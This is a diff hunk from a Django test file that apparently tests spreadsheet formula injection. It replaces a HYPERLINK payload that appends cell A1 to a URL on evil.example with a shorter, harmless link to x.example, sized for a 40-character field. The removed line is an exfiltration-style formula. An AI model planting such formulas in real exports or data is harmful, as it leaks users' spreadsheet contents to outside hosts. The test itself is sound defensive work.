@@ -19,7 +19,8 @@ from tests.room.room_fixtures import room_objects
 
 pytestmark = pytest.mark.django_db
 
-LINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
+# Short enough for a cost centre (40 characters).
+LINK = '=HYPERLINK("https://x.example","Klik")'
 
 
 @pytest.mark.parametrize(
